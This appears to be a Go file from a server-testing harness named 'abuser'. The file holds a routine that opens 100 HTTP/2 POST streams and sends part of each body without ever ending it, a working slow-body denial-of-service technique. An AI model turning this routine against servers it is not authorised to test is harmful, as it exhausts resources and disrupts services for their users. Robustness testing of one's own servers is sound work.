package abuser

import (
	"bytes"
	"io"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// streamCount is the number of streams that a client of HTTP/2 opens at once.
	streamCount = 100
	// streamBytes is what it sends of each body, within the windows of a connection.
	streamBytes = 8 << 10
)

// Streams is the manner of clients of HTTP/2 that open many streams, and leave each body
// without its end.
var Streams = Manner{Name: "streams of HTTP/2 without end", send: sendStreams}

func sendStreams(conn net.Conn, rq request) error {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	framer := http2.NewFramer(conn, nil)
	if err := framer.WriteSettings(); err != nil {
		return err
	}
	var header bytes.Buffer
	encoder := hpack.NewEncoder(&header)
	body := make([]byte, streamBytes)
	for number := range streamCount {
		stream := uint32(2*number + 1)
		header.Reset()
		for _, field := range []hpack.HeaderField{
			{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: Host}, {Name: ":path", Value: rq.path},
		} {
			if err := encoder.WriteField(field); err != nil {
				return err
			}
		}
		err := framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID:      stream,
			BlockFragment: header.Bytes(),
			EndHeaders:    true,
		})
		if err != nil {
			return err
		}
		if err := framer.WriteData(stream, false, body); err != nil {
			return err
		}
	}
	return nil
}
